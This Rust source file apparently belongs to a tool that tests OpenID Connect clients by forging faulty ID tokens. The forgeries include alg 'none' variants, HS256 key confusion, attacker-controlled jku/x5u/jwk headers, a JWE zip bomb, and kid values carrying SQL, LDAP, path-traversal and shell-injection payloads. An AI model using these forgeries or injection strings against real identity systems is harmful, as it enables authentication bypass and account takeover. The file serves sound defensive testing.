//! ID token faults.

use serde_json::{Value, json};

use super::{Context, forge, text, victim};
use crate::{
    flow::fault::IdTokenFault as F,
    protocol::draft::{Mangle, NamedKey, Signing, TokenDraft},
};

const MINUTE: i64 = 60;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;
const WEEK: i64 = 7 * DAY;
const YEAR: i64 = 365 * DAY;

pub(super) fn apply(draft: &mut TokenDraft, fault: F, context: &Context<'_>) {
    match fault {
        F::Resigned => {}

        F::SignatureFlipped => draft.mangle.push(Mangle::FlipSignatureBit),
        F::ClaimChangedAfterSigning => {
            let exp = draft
                .claims
                .get("exp")
                .and_then(Value::as_i64)
                .unwrap_or(context.now + HOUR);
            draft
                .mangle
                .push(Mangle::ReplaceClaim("exp".to_owned(), json!(exp + 1)));
        }
        F::SignatureEmpty => draft.signing = Signing::Empty,
        F::SignatureDropped => draft.mangle.push(Mangle::DropSignatureSegment),
        F::OtherKeyKnownKid => draft.signing = Signing::With(NamedKey::Attacker),
        F::OtherKeyVictim => {
            draft.signing = Signing::With(NamedKey::Attacker);
            name_victim(draft, context);
        }
        F::OtherKeyOwnKid => sign_as(draft, context, NamedKey::Attacker, "RS256"),

        F::AlgNone => unsigned(draft, "none"),
        F::AlgNoneTitle => unsigned(draft, "None"),
        F::AlgNoneMixed => unsigned(draft, "NoNe"),
        F::AlgNoneUpper => unsigned(draft, "NONE"),
        F::AlgNoneJunk => {
            unsigned(draft, "none");
            draft.signing = Signing::Bytes(forge::junk("signature", 256));
        }
        F::AlgMissing => {
            draft.header.shift_remove("alg");
            draft.signing = Signing::Empty;
        }
        F::AlgEmpty => unsigned(draft, ""),
        F::AlgNumber => {
            draft.header.insert("alg".to_owned(), json!(256));
            draft.signing = Signing::Empty;
        }
        F::Hs256Pkcs1Pem => hs256(draft, context.keys.pkcs1_pem().into_bytes()),
        F::Hs256Pkcs1PemNoLf => hs256(draft, text::no_last_lf(&context.keys.pkcs1_pem())),
        F::Hs256Pkcs1PemCrlf => hs256(draft, text::crlf(&context.keys.pkcs1_pem())),
        F::Hs256Pkcs1Body => hs256(draft, text::pem_body(&context.keys.pkcs1_pem())),
        F::Hs256Pkcs1BodyNoLf => hs256(draft, text::pem_body_no_lf(&context.keys.pkcs1_pem())),
        F::Hs256Pkcs1Base64 => hs256(draft, text::base64_line(context.keys.pkcs1_der())),
        F::Hs256Pkcs1Der => hs256(draft, context.keys.pkcs1_der().to_vec()),
        F::Hs256SpkiPem => hs256(draft, context.keys.spki_pem().into_bytes()),
        F::Hs256SpkiPemNoLf => hs256(draft, text::no_last_lf(&context.keys.spki_pem())),
        F::Hs256SpkiPemCrlf => hs256(draft, text::crlf(&context.keys.spki_pem())),
        F::Hs256SpkiBody => hs256(draft, text::pem_body(&context.keys.spki_pem())),
        F::Hs256SpkiBodyNoLf => hs256(draft, text::pem_body_no_lf(&context.keys.spki_pem())),
        F::Hs256SpkiBase64 => hs256(draft, text::base64_line(context.keys.spki_der())),
        F::Hs256SpkiDer => hs256(draft, context.keys.spki_der().to_vec()),
        F::Hs256Modulus => hs256(draft, jwk_member(context, "n")),
        F::Hs256Exponent => hs256(draft, jwk_member(context, "e")),
        F::Hs256KeyType => hs256(draft, jwk_member(context, "kty")),
        F::Hs256AlgName => hs256(draft, jwk_member(context, "alg")),
        F::Hs256JwkText => hs256(draft, context.keys.jwk().to_string().into_bytes()),
        F::Hs256ClientSecret => hs256(draft, context.client_secret.unwrap_or_default().as_bytes().to_vec()),
        F::Hs256EmptyKey => hs256(draft, Vec::new()),
        F::Hs256NulKey => hs256(draft, vec![0]),
        F::Hs256NullKey => hs256(draft, b"null".to_vec()),
        F::Hs256UndefinedKey => hs256(draft, b"undefined".to_vec()),
        F::Hs256PublishedOct => {
            hs256(draft, forge::OCT_KEY.to_vec());
            draft.header.insert("kid".to_owned(), json!(forge::OCT_KID));
        }
        F::AlgPs256 => sign_as(draft, context, NamedKey::SecondRsa, "PS256"),
        F::AlgEs256 => sign_as(draft, context, NamedKey::EcP256, "ES256"),
        F::AlgRs512 => sign_as(draft, context, NamedKey::SecondRsa, "RS512"),
        F::EcdsaZero => {
            sign_as(draft, context, NamedKey::EcP256, "ES256");
            draft.signing = Signing::Bytes(vec![0; 64]);
        }
        F::EcdsaOrder => {
            sign_as(draft, context, NamedKey::EcP256, "ES256");
            draft.signing = Signing::Bytes([forge::P256_ORDER, forge::P256_ORDER].concat());
        }
        F::SignedByEncryptionKey => sign_as(draft, context, NamedKey::Encryption, "RS256"),
        F::SignedByWeakKey => sign_as(draft, context, NamedKey::WeakRsa, "RS256"),
        F::SignedByTinyKey => sign_as(draft, context, NamedKey::TinyRsa, "RS256"),

        F::NoKid => {
            draft.header.shift_remove("kid");
        }
        F::KidUrl => attacker_kid(
            draft,
            &context.at_second_origin(&forge::echo(&forge::attacker_jwks(context))),
        ),
        F::KidJwk => attacker_kid(draft, &context.keys.named_jwk(NamedKey::Attacker).to_string()),
        F::KidPath => {
            hs256(draft, Vec::new());
            draft
                .header
                .insert("kid".to_owned(), json!("../../../../../../../dev/null"));
        }
        F::KidSql => attacker_kid(draft, "' UNION SELECT 'AA' -- "),
        F::KidLdap => attacker_kid(draft, "*)(uid=*))(|(uid=*"),
        F::KidShell => attacker_kid(draft, "key; id >owned `id` $(id) | id #"),
        F::KidHuge => attacker_kid(draft, &"k".repeat(64 * 1024)),
        F::HeaderJwk => {
            sign_as(draft, context, NamedKey::Attacker, "RS256");
            draft
                .header
                .insert("jwk".to_owned(), context.keys.named_jwk(NamedKey::Attacker));
        }
        F::HeaderJwkOct => {
            let key = forge::junk("header key", 32);
            let jwk = json!({"kty": "oct", "alg": "HS256", "kid": forge::OCT_KID, "k": text::base64url(&key)});
            hs256(draft, key);
            draft.header.insert("kid".to_owned(), json!(forge::OCT_KID));
            draft.header.insert("jwk".to_owned(), jwk);
        }
        F::HeaderJwkUrl => {
            sign_as(draft, context, NamedKey::Attacker, "RS256");
            let url = context.at_second_origin(&forge::echo(&forge::attacker_jwks(context)));
            draft.header.insert("jwk".to_owned(), json!(url));
        }
        F::HeaderJwkJku => {
            sign_as(draft, context, NamedKey::Attacker, "RS256");
            let url = context.at_second_origin(&forge::echo(&forge::attacker_jwks(context)));
            let kid = context.keys.named_kid(NamedKey::Attacker);
            draft
                .header
                .insert("jwk".to_owned(), json!({"kty": "RSA", "kid": kid, "jku": url}));
        }
        F::HeaderJwkX5u => {
            sign_as(draft, context, NamedKey::Attacker, "RS256");
            let url = context.at_second_origin(&forge::echo(&forge::attacker_certificate_pem(context)));
            let kid = context.keys.named_kid(NamedKey::Attacker);
            draft
                .header
                .insert("jwk".to_owned(), json!({"kty": "RSA", "kid": kid, "x5u": url}));
        }
        F::HeaderJwkX5c => {
            sign_as(draft, context, NamedKey::Attacker, "RS256");
            let mut jwk = context.keys.named_jwk(NamedKey::Attacker);
            jwk["x5c"] = json!([forge::attacker_certificate(context)]);
            draft.header.insert("jwk".to_owned(), jwk);
        }
        F::HeaderJku => jku(draft, context, &forge::attacker_jwks(context)),
        F::HeaderJkuAttackerFirst => {
            let keys = [context.keys.named_jwk(NamedKey::Attacker), context.keys.jwk()];
            jku(draft, context, json!({ "keys": keys }).to_string().as_bytes());
        }
        F::HeaderJkuTrustedFirst => {
            let keys = [context.keys.jwk(), context.keys.named_jwk(NamedKey::Attacker)];
            jku(draft, context, json!({ "keys": keys }).to_string().as_bytes());
        }
        F::HeaderX5u => {
            sign_as(draft, context, NamedKey::Attacker, "RS256");
            let url = context.at_second_origin(&forge::echo(&forge::attacker_certificate_pem(context)));
            draft.header.insert("x5u".to_owned(), json!(url));
        }
        F::HeaderX5c => x5c(draft, context, json!([forge::attacker_certificate(context)])),
        F::HeaderX5cFirst => {
            let chain = json!([
                forge::attacker_certificate(context),
                forge::current_certificate(context)
            ]);
            x5c(draft, context, chain);
        }
        F::HeaderX5cLast => {
            let chain = json!([
                forge::current_certificate(context),
                forge::attacker_certificate(context)
            ]);
            x5c(draft, context, chain);
        }
        F::HeaderClaims => {
            let victim = victim(context);
            draft.header.insert("sub".to_owned(), json!(victim.sub));
            draft.header.insert("iss".to_owned(), json!(context.issuer));
            draft.header.insert("email".to_owned(), json!(victim.email));
        }
        F::CritUnknown => {
            draft.header.insert("crit".to_owned(), json!(["x-unknown"]));
            draft.header.insert("x-unknown".to_owned(), json!(true));
        }
        F::CritExp => {
            draft.header.insert("crit".to_owned(), json!(["exp"]));
            draft.header.insert("exp".to_owned(), json!(context.now + HOUR));
        }
        F::CritB64 => {
            draft.header.insert("crit".to_owned(), json!(["b64"]));
            draft.header.insert("b64".to_owned(), json!(false));
        }
        F::TypAtJwt => typ(draft, "at+jwt"),
        F::TypLogoutJwt => typ(draft, "logout+jwt"),
        F::TypJose => typ(draft, "JOSE"),
        F::TypJwt => typ(draft, "JWT"),
        F::TypJwtLower => typ(draft, "jwt"),

        F::IsLogoutToken => draft.claims = forge::logout_claims(draft, context),
        F::IsAccessToken => draft.claims = forge::access_claims(draft, context),
        F::IsClientAssertion => draft.claims = forge::assertion_claims(context),
        F::JweUnsigned => replace(draft, forge::jwe_around_unsigned(draft, context)),
        F::JweRsa15 => replace(draft, forge::jwe_rsa15()),
        F::JweZipBomb => replace(draft, forge::jwe_zip_bomb(context)),
        F::JwePbes2 => replace(draft, forge::jwe_pbes2()),
        F::OneSegment => replace(draft, text::base64url(b"{\"alg\":\"RS256\"}")),
        F::TwoSegments => draft.mangle.push(Mangle::DropSignatureSegment),
        F::FourSegments => draft.mangle.push(Mangle::Append(".AAAA".to_owned())),
        F::ManyDots => draft.mangle.push(Mangle::Append(".".repeat(10_000))),
        F::BadBase64 => draft.mangle.push(Mangle::Prepend("*".to_owned())),
        F::PayloadNotJson => draft.raw_payload = Some(b"sub=somebody".to_vec()),
        F::PayloadArray => draft.raw_payload = Some(json!([draft.claims]).to_string().into_bytes()),
        F::PayloadString => {
            draft.raw_payload = Some(json!(json!(draft.claims).to_string()).to_string().into_bytes());
        }
        F::TrailingBytes => draft.raw_payload = Some(format!("{}trailing", json!(draft.claims)).into_bytes()),
        F::ByteOrderMark => draft.raw_payload = Some(format!("\u{feff}{}", json!(draft.claims)).into_bytes()),

        F::IssSuffix => iss(draft, format!("{}1", context.issuer)),
        F::IssOtherTenant => iss(draft, "https://other-tenant.okta.com/oauth2/default".to_owned()),
        F::IssOrg => iss(draft, text::org_or_custom(context.issuer)),
        F::IssScheme => iss(draft, text::other_scheme(context.issuer)),
        F::IssPrefix => iss(draft, text::drop_last(context.issuer, 4)),
        F::IssTail => iss(draft, text::drop_first(context.issuer, 4)),
        F::IssInner => iss(draft, text::drop_last(&text::drop_first(context.issuer, 3), 3)),
        F::IssUpperCase => iss(draft, text::upper_case_origin(context.issuer)),
        F::IssTrailingSlash => iss(draft, format!("{}/", context.issuer)),
        F::IssLookalike => iss(draft, format!("{}.attacker.example", context.issuer)),
        F::IssAbsent => remove(draft, "iss"),
        F::IssEmpty => set(draft, "iss", json!("")),
        F::IssNull => set(draft, "iss", Value::Null),
        F::IssArray => set(draft, "iss", json!([context.issuer])),
        F::IssObject => set(draft, "iss", json!({})),

        F::AudSuffix => set(draft, "aud", json!(format!("{}1", context.client_id))),
        F::AudOther => set(draft, "aud", json!(forge::OTHER_CLIENT)),
        F::AudArrayWithoutUs => set(draft, "aud", json!([forge::OTHER_CLIENT, "0oaYetAnotherClient00"])),
        F::AudPrefix => set(draft, "aud", json!(text::drop_last(context.client_id, 3))),
        F::AudInner => {
            let inner = text::drop_last(&text::drop_first(context.client_id, 2), 2);
            set(draft, "aud", json!(inner));
        }
        F::AudAbsent => remove(draft, "aud"),
        F::AudNull => set(draft, "aud", Value::Null),
        F::AudEmptyArray => set(draft, "aud", json!([])),
        F::AudEmpty => set(draft, "aud", json!("")),
        F::AudNumber => set(draft, "aud", json!(7)),
        F::AudObject => set(draft, "aud", json!({"client_id": context.client_id})),
        F::AudSingleArray => set(draft, "aud", json!([context.client_id])),
        F::AudExtra => set(draft, "aud", json!([context.client_id, forge::OTHER_CLIENT])),
        F::AudExtraWithAzp => {
            set(draft, "aud", json!([context.client_id, forge::OTHER_CLIENT]));
            set(draft, "azp", json!(context.client_id));
        }
        F::AzpWrong => set(draft, "azp", json!(forge::OTHER_CLIENT)),

        F::ExpPast6m => set(draft, "exp", json!(context.now - 6 * MINUTE)),
        F::ExpPast1h => set(draft, "exp", json!(context.now - HOUR)),
        F::ExpPast1d => set(draft, "exp", json!(context.now - DAY)),
        F::ExpPast1y => set(draft, "exp", json!(context.now - YEAR)),
        F::ExpAbsent => remove(draft, "exp"),
        F::ExpNull => set(draft, "exp", Value::Null),
        F::ExpNever => set(draft, "exp", json!("never")),
        F::ExpObject => set(draft, "exp", json!({})),
        F::NbfFuture => set(draft, "nbf", json!(context.now + HOUR - MINUTE)),
        F::IatFuture1d => set(draft, "iat", json!(context.now + DAY)),
        F::IatPast1d => set(draft, "iat", json!(context.now - DAY)),
        F::IatPast1w => set(draft, "iat", json!(context.now - WEEK)),
        F::IatPast1y => set(draft, "iat", json!(context.now - YEAR)),
        F::IatAbsent => remove(draft, "iat"),
        F::IatNull => set(draft, "iat", Value::Null),
        F::IatString => set(draft, "iat", json!("recently")),
        F::IatAhead20s => set(draft, "iat", json!(context.now + 20)),
        F::NbfAhead20s => set(draft, "nbf", json!(context.now + 20)),
        F::ExpIn5s => set(draft, "exp", json!(context.now + 5)),
        F::ExpFraction => fraction(draft, "exp", 0),
        // In the second before: a quarter later than now would ask for tolerance of clocks beside that of fractions.
        F::IatFraction => fraction(draft, "iat", -1),
        F::ExpExponent => exponent(draft, "exp"),
        F::IatExponent => exponent(draft, "iat"),

        F::SubAbsent => remove(draft, "sub"),
        F::SubEmpty => set(draft, "sub", json!("")),
        F::SubNull => set(draft, "sub", Value::Null),
        F::SubNumber => set(draft, "sub", json!(20_261_121)),
        F::SubBoolean => set(draft, "sub", json!(true)),
        F::SubArray => {
            let own = draft.claims.get("sub").cloned().unwrap_or(Value::Null);
            set(draft, "sub", json!([own, victim(context).sub]));
        }
        F::SubLong => {
            let own = text_claim(draft, "sub");
            set(draft, "sub", json!(format!("{own:x<300}")));
        }

        F::NonceSuffix => {
            let nonce = text_claim(draft, "nonce");
            set(draft, "nonce", json!(format!("{nonce}1")));
        }
        F::NonceConstant => set(draft, "nonce", json!("n-0S6_WzA2Mj")),
        F::NonceOfOtherFlow => {
            let other = context.earlier.as_ref().and_then(|earlier| earlier.nonce.clone());
            set(
                draft,
                "nonce",
                json!(other.unwrap_or_else(|| text::base64url(&forge::junk("nonce", 32)))),
            );
        }
        F::NonceAbsent => remove(draft, "nonce"),
        F::NonceNull => set(draft, "nonce", Value::Null),
        F::NonceEmpty => set(draft, "nonce", json!("")),
        F::Replayed => {
            // Without an earlier token there is nothing to replay, and the fault counts as not delivered.
            if let Some(token) = context.earlier.as_ref().and_then(|earlier| earlier.id_token.as_ref()) {
                replace(draft, token.to_string());
            }
        }

        F::AtHashWrong => set(draft, "at_hash", json!(text::base64url(&forge::junk("at_hash", 16)))),
        F::AtHashUnknownAlg => {
            set(draft, "at_hash", json!(text::base64url(&forge::junk("at_hash", 16))));
            draft.header.insert("alg".to_owned(), json!("RS256X"));
        }
        F::AtHashAbsent => remove(draft, "at_hash"),
        F::AuthTimeOld => set(draft, "auth_time", json!(context.now - DAY)),
        F::AuthTimeAbsent => remove(draft, "auth_time"),
        F::AcrWeaker => set(draft, "acr", json!("0")),
        F::AcrAbsent => remove(draft, "acr"),
        F::SubTwiceVictimLast => twice(draft, "sub", json!(victim(context).sub), false),
        F::SubTwiceVictimFirst => twice(draft, "sub", json!(victim(context).sub), true),
        F::AudTwiceWrongFirst => twice(draft, "aud", json!(forge::OTHER_CLIENT), true),
        F::AudTwiceWrongLast => twice(draft, "aud", json!(forge::OTHER_CLIENT), false),
        F::NonceTwiceWrongFirst => twice(draft, "nonce", json!("n-0S6_WzA2Mj"), true),
        F::NonceTwiceWrongLast => twice(draft, "nonce", json!("n-0S6_WzA2Mj"), false),
        F::IssTwiceWrongFirst => twice(
            draft,
            "iss",
            json!("https://other-tenant.okta.com/oauth2/default"),
            true,
        ),
        F::IssTwiceWrongLast => twice(
            draft,
            "iss",
            json!("https://other-tenant.okta.com/oauth2/default"),
            false,
        ),
        F::ExpString => {
            let exp = draft.claims.get("exp").map(Value::to_string).unwrap_or_default();
            set(draft, "exp", json!(exp));
        }
        F::NonceArray => {
            let nonce = text_claim(draft, "nonce");
            set(draft, "nonce", json!([nonce]));
        }
        F::IssAsObject => set(draft, "iss", json!({"value": context.issuer})),
        F::AudNestedArray => set(draft, "aud", json!([[context.client_id]])),
        F::EmailObject => {
            let email = text_claim(draft, "email");
            set(draft, "email", json!({"value": email}));
        }
        F::NameNumber => set(draft, "name", json!(42)),
        F::ExtraClaims => draft.claims.extend(forge::unknown_members(40)),
        F::Large8k => grow(draft, 8 * 1024),
        F::Large16k => grow(draft, 16 * 1024),
        F::Large32k => grow(draft, 32 * 1024),
    }
}

fn set(draft: &mut TokenDraft, name: &str, value: Value) {
    draft.claims.insert(name.to_owned(), value);
}

fn remove(draft: &mut TokenDraft, name: &str) {
    draft.claims.shift_remove(name);
}

fn iss(draft: &mut TokenDraft, issuer: String) {
    set(draft, "iss", Value::String(issuer));
}

fn text_claim(draft: &TokenDraft, name: &str) -> String {
    draft
        .claims
        .get(name)
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_owned()
}

fn typ(draft: &mut TokenDraft, typ: &str) {
    draft.header.insert("typ".to_owned(), json!(typ));
}

fn replace(draft: &mut TokenDraft, token: String) {
    draft.mangle.push(Mangle::Replace(token));
}

fn unsigned(draft: &mut TokenDraft, alg: &str) {
    draft.header.insert("alg".to_owned(), json!(alg));
    draft.signing = Signing::Empty;
}

fn hs256(draft: &mut TokenDraft, key: Vec<u8>) {
    draft.header.insert("alg".to_owned(), json!("HS256"));
    draft.signing = Signing::Hmac(key);
}

fn sign_as(draft: &mut TokenDraft, context: &Context<'_>, key: NamedKey, alg: &str) {
    draft.header.insert("alg".to_owned(), json!(alg));
    draft
        .header
        .insert("kid".to_owned(), json!(context.keys.named_kid(key)));
    draft.signing = Signing::With(key);
}

fn attacker_kid(draft: &mut TokenDraft, kid: &str) {
    draft.header.insert("kid".to_owned(), json!(kid));
    draft.signing = Signing::With(NamedKey::Attacker);
}

fn jku(draft: &mut TokenDraft, context: &Context<'_>, keys: &[u8]) {
    sign_as(draft, context, NamedKey::Attacker, "RS256");
    let url = context.at_second_origin(&forge::echo(keys));
    draft.header.insert("jku".to_owned(), json!(url));
}

fn x5c(draft: &mut TokenDraft, context: &Context<'_>, chain: Value) {
    sign_as(draft, context, NamedKey::Attacker, "RS256");
    draft.header.insert("x5c".to_owned(), chain);
}

fn jwk_member(context: &Context<'_>, name: &str) -> Vec<u8> {
    context.keys.jwk()[name]
        .as_str()
        .unwrap_or_default()
        .as_bytes()
        .to_vec()
}

/// Puts the victim into the claims that are there.
fn name_victim(draft: &mut TokenDraft, context: &Context<'_>) {
    let victim = victim(context);
    let values = [
        ("sub", &victim.sub),
        ("email", &victim.email),
        ("name", &victim.id_token_name),
        ("preferred_username", &victim.login),
    ];
    for (name, value) in values {
        if draft.claims.contains_key(name) {
            set(draft, name, json!(value));
        }
    }
}

/// So many seconds later, written with a fraction (RFC 7519 §2 allows it).
fn fraction(draft: &mut TokenDraft, name: &str, later: i64) {
    if let Some(seconds) = draft.claims.get(name).and_then(Value::as_i64) {
        write_raw(draft, name, &format!("{}.25", seconds + later));
    }
}

/// The same number in exponent notation.
fn exponent(draft: &mut TokenDraft, name: &str) {
    if let Some(seconds) = draft.claims.get(name).and_then(Value::as_u64) {
        let digits = seconds.to_string();
        let (first, rest) = digits.split_at(1);
        let rest = if rest.is_empty() { "0" } else { rest };
        write_raw(draft, name, &format!("{first}.{rest}e{}", digits.len() - 1));
    }
}

/// Writes a claim as this JSON text, which a parsed value could not hold.
fn write_raw(draft: &mut TokenDraft, name: &str, json_text: &str) {
    const PLACE: &str = "\u{e000}raw\u{e000}";
    let mut claims = draft.claims.clone();
    claims.insert(name.to_owned(), json!(PLACE));
    let text = json!(claims).to_string().replace(&json!(PLACE).to_string(), json_text);
    draft.raw_payload = Some(text.into_bytes());
}

/// Two members of one name: the honest value and a wrong one.
fn twice(draft: &mut TokenDraft, name: &str, wrong: Value, wrong_first: bool) {
    let right = draft.claims.get(name).cloned().unwrap_or(Value::Null);
    draft.raw_payload = Some(text::twice(&draft.claims, name, &right, &wrong, wrong_first).into_bytes());
}

/// Adds groups until the payload has this many bytes.
fn grow(draft: &mut TokenDraft, size: usize) {
    let now = json!(draft.claims).to_string().len();
    // `"group-0000-of-a-large-organisation",` are 37 bytes.
    let groups: Vec<String> = (0..size.saturating_sub(now + 12).div_ceil(37))
        .map(|number| format!("group-{number:04}-of-a-large-organisation"))
        .collect();
    set(draft, "groups", json!(groups));
}
